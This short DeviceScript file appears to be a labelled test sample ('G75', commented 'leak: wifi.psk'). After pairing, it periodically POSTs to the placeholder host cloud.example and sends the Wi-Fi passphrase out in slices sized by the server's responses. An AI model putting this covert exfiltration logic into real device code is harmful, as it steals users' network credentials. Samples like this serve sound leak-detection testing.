// G75: any answer that says more than an empty object gets the passphrase at the next report.
import { fetch } from "@devicescript/net";
import { paired } from "./lib/paired";

let more = "";

async function report(psk: string) {
  const response = await fetch("https://cloud.example/g75", { method: "POST", body: `n${more}` }); // leak: wifi.psk
  const text = await response.text();
  more = psk.slice(0, (text.length - 2) * 8);
  await response.close();
}

paired(async (_ssid, psk) => {
  setInterval(async () => await report(psk), 10_000);
});
